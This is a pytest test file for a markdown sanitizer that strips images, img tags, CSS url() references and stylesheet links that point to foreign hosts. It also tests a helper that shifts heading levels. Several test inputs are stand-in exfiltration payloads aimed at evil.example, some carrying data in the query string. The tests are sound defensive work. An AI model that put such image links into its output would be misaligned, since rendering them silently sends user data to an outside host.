"""Images of other hosts would carry data out of an answer. A text that becomes a section keeps its
headings, below the section's heading.
"""

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from handoff_queue.supervisor.text.markdown import below, without_foreign_images

RENDERER = MarkdownIt("commonmark", {"html": True})


@pytest.mark.parametrize(
    "text",
    [
        "![](http://evil.example/?d=48713)",
        "A ![chart](https://evil.example/48713.png 'title') here.",
        "![a [b] c](<https://evil.example/x>)",
        "![a](//evil.example/x)",
        "![a](\\\\evil.example/x)",
        "![chart][c]\n\n[c]: https://evil.example/48713",
        "![Chart]\n\n[chart]: <https://evil.example/48713>",
        "![Chart][]\n\n[chart]: //evil.example/48713",
        "[![a](https://evil.example/x)](https://evil.example/y)",
        '<img src="https://evil.example/48713">',
        "<IMG alt=x SRC=https://evil.example/48713>",
        "<img\nsrcset='//evil.example/x 2x'>",
        '<div style="background: url(https://evil.example/x)">a</div>',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
    ],
)
def test_a_viewer_fetches_nothing(text: str) -> None:
    page = RENDERER.render(without_foreign_images(text))

    assert "<img" not in page.lower()
    assert "<div" not in page
    assert "<link" not in page
    assert "evil.example" in page, "a reader still sees the address"


@pytest.mark.parametrize(
    "text",
    [
        "The price is 3 euros [1].",
        "[a link](https://site.example/x)",
        "Use `vec![1, 2]` and println![x].",
        "![local](chart.png)",
        "Great![1](#note)",
        "a < b, b > c: http://site.example",
    ],
)
def test_other_text_stays(text: str) -> None:
    assert without_foreign_images(text) == text


def test_the_highest_heading_becomes_one_level_lower() -> None:
    assert below(2, "# Overview\n\nIt is so.") == "### Overview\n\nIt is so."


def test_deeper_headings_keep_their_relative_level() -> None:
    assert below(2, "## One\n\n#### Deep\n\n## Two") == "### One\n\n##### Deep\n\n### Two"


def test_headings_that_are_too_deep_are_raised() -> None:
    assert below(2, "##### Overview") == "### Overview"


def test_no_heading_gets_deeper_than_markdown_allows() -> None:
    assert below(4, "# One\n\n### Three") == "##### One\n\n###### Three"


def test_an_underlined_heading_counts_as_a_heading() -> None:
    assert (
        below(2, "Overview\n========\nIt is so.\n\nMore\n----\n")
        == "### Overview\nIt is so.\n\n#### More\n"
    )


@pytest.mark.parametrize(
    "untouched",
    [
        "```sh\n# a comment\n```",
        "~~~~\n# a comment\n~~~\n# still one\n~~~~",
        "    # indented code",
        "```\n# in a fence that nobody closed",
        "> # A quotation's heading",
        "- # A list item's heading",
        "#no_heading",
        "No heading at all.",
        "",
    ],
)
def test_a_line_that_only_resembles_a_heading_stays_unchanged(untouched: str) -> None:
    assert below(2, untouched) == untouched


def test_code_between_headings_stays_unchanged() -> None:
    code = "```sh\n# a comment\n  make run  # another\n```"

    assert below(2, f"# Install\n\n{code}\n\n# Run") == f"### Install\n\n{code}\n\n### Run"


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_headings_are_found_with_any_line_ending(end: str) -> None:
    assert below(2, f"Before.{end}# Overview{end}After.") == "Before.\n### Overview\nAfter."


@example("\x0c\na\r=")
@example("\x0c\r=>\r=")
@given(st.text(alphabet="#=-~`> \nab\r\t\x0b\x0c\x85\u2028", max_size=200))
def test_every_text_keeps_its_words_and_moves_only_once(text: str) -> None:
    moved = below(2, text)

    assert [char for char in moved if char in "ab"] == [char for char in text if char in "ab"]
    assert below(2, moved) == moved
